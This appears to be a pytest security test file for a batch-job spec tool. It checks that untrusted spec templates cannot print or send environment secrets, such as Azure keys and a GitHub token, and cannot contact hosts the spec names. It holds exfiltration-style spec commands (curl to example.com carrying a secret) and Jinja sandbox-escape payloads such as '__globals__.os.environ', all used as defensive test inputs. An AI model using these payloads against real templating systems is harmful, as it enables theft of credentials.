"""What the environment of a build machine holds is in nothing that an untrusted spec makes it print or send."""

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.hostile.forked import Forked
from tests.hostile.ran import HEAD, POOL, batchspec

HELD = {
    "AZURE_BATCH_ACCESS_KEY": "c3RvbGVuLWJhdGNoLWtleQ==",
    "AZURE_STORAGE_KEY": "c3RvbGVuLXN0b3JhZ2Uta2V5",
    "AZURE_STORAGE_CONNECTION_STRING": "AccountName=x;AccountKey=c3RvbGVuLXN0cmluZw==",
    "AZURE_CLIENT_SECRET": "stolen-client-secret",
    "GITHUB_TOKEN": "stolen-token",
    "SAS_OF_OURS": "sv=2024-11-04&sp=rl&sig=stolen-signature",
}
SENT = (
    'command: "echo {{ vars.k }}"',
    'command: "curl https://example.com/{{ vars.k | sh }}"',
    'command: x, environment_settings: {K: "{{ vars.k }}"}',
    'command: x, display_name: "{{ vars.k }}"',
    'command: x, resource_files: [{http_url: "https://example.com/{{ vars.k }}", file_path: f}]',
)
REFUSED = (
    'command: "{{ vars.k | upper }}"',
    'command: "{{ vars.k[0] }}"',
    "command: \"{% if vars.k == 'a' %}{{ 1 / 0 }}{% endif %}\"",
    "command: \"{{ 'yes' if vars.k > 'm' else 'no' }}\"",
    'command: "{{ vars.k | length }}"',
    'command: "{{ environ.X }}{{ env.X }}{{ os.environ }}"',
)


@pytest.mark.parametrize("variable", HELD)
def test_no_use_of_a_variable_of_the_environment_shows_its_value(tmp_path: Path, variable: str) -> None:
    stolen = HELD[variable].rpartition("=")[2] or HELD[variable]
    head = HEAD + f"vars: {{k: {{secret: true, from_env: {variable}}}}}\n" + POOL + "tasks:\n"
    for command, uses in (("validate", (*SENT, *REFUSED)), ("render", SENT)):
        tasks = "".join(f"- {{id: a{number}, {use}}}\n" for number, use in enumerate(uses))
        (tmp_path / "s.yaml").write_text(head + tasks)
        done = batchspec(command, "s.yaml", "--target", "azure", cwd=tmp_path, environ=[*HELD.items()])
        assert done.code == (2 if command == "validate" else 0), done
        assert HELD[variable] not in done.out + done.err
        assert stolen not in done.out + done.err


def test_only_a_variable_that_is_declared_a_secret_reads_the_environment(tmp_path: Path) -> None:
    for declared in ("{from_env: GITHUB_TOKEN}", "{secret: false, from_env: GITHUB_TOKEN}", "{secret: true}"):
        (tmp_path / "s.yaml").write_text(HEAD + f"vars: {{k: {declared}}}\n" + POOL)
        done = batchspec("validate", "s.yaml", cwd=tmp_path, environ=[*HELD.items()])
        assert (done.code, "stolen" in done.out + done.err) == (2, False)


@pytest.fixture
def heard() -> Iterator[tuple[int, list[str]]]:
    """A server that a spec names: its port, and the first line of each request."""
    lines: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            lines.append(self.rfile.readline(1000).decode("latin-1"))
            self.close_connection = True

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_port, lines
        server.shutdown()
        thread.join()


@pytest.mark.parametrize(
    "sas", ["", ", sas: {from_env: SAS_OF_OURS}", ", sas: {from_env: AZURE_STORAGE_CONNECTION_STRING}"]
)
@pytest.mark.parametrize("command", ["render", "plan"])
def test_no_host_that_only_the_spec_names_is_asked(
    tmp_path: Path, heard: tuple[int, list[str]], command: str, sas: str
) -> None:
    port, lines = heard
    url = f"http://127.0.0.1:{port}/account/data"
    text = (
        f"containers: {{theirs: {{existing: true, url: '{url}'{sas}}}}}\ndownloads: [{{container: theirs, to: out}}]\n"
    )
    each = 'tasks: [{id: "{{ file.stem | task_id }}", command: x, for_each: {container: theirs}}]\n'
    (tmp_path / "s.yaml").write_text(HEAD + POOL + text + each)
    # Both services of the target are not there: what is asked is asked before that is found out, or after it.
    endpoint = [
        ("AZURE_BATCH_ENDPOINT", "http://127.0.0.1:9"),
        ("AZURE_BATCH_ACCOUNT", "a"),
        ("AZURE_STORAGE_ACCOUNT", "b"),
    ]
    done = batchspec(command, "s.yaml", "--target", "azure", cwd=tmp_path, environ=[*HELD.items(), *endpoint])
    assert done.code in (0, 1, 2), done
    assert lines == []
    assert "stolen" not in done.out + done.err


REACHED = (
    *("{{ PATH }}", "{{ HOME }}", "{{ LEAK }}", "{{ env.LEAK }}", "{{ environ['LEAK'] }}", "{{ vars.LEAK }}"),
    *("{{ name.__class__ }}", "{{ range.__globals__ }}", "{{ containers.c.sas_url.__globals__ }}", "${LEAK}", "$LEAK"),
    *("{{ '$LEAK' }}", "%LEAK%", "~/LEAK", "{{ '~' }}", "{{ lipsum.__globals__.os.environ.LEAK }}", "{{ '{LEAK}' }}"),
    *("{{ '{0.__globals__}'.format(range) }}", "{{ '%(LEAK)s' % vars }}", "{{ ['LEAK'] | map('upper') | join }}"),
)


@pytest.fixture(scope="module")
def leaking(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Forked]:
    """A process with something to be stolen in its environment."""
    with pytest.MonkeyPatch.context() as patched:
        patched.setenv("LEAK", "stolen-value")
        patched.setenv("HOME", "/stolen-home")
        process = Forked(tmp_path_factory.mktemp("leaking"))
    yield process
    process.close()


@pytest.mark.parametrize("source", REACHED)
def test_no_template_path_or_value_reaches_the_environment(leaking: Forked, source: str) -> None:
    quoted = f"'{source.replace(chr(39), chr(39) * 2)}'"
    for text in (
        f"name: {quoted}\n" + POOL,
        f"name: a\nvars: {{a: {quoted}}}\n" + POOL + "tasks: [{id: a, command: '{{ vars.a }}'}]\n",
        f"name: a\ncontainers: {{c: {{name: {quoted}}}}}\n" + POOL,
        f"name: a\ncontainers: {{c: {{}}}}\nuploads: {{u: {{container: c, files: {quoted}}}}}\n" + POOL,
        f"name: a\ncontainers: {{c: {{}}}}\ndownloads: [{{container: c, to: {quoted}}}]\n" + POOL,
        f"name: a\n{POOL}tasks: [{{id: a, command: {quoted}, environment_settings: {{A: {quoted}}}}}]\n",
        f"name: a\n{POOL}tasks: [{{id: a, command: x, for_each: {{rows: {quoted}}}}}]\n",
    ):
        ended = leaking.command("render", "s.yaml", files={"s.yaml": f"version: 1\n{text}"})
        assert ended.code in (0, 2), ended
        assert "stolen" not in ended.out + ended.err
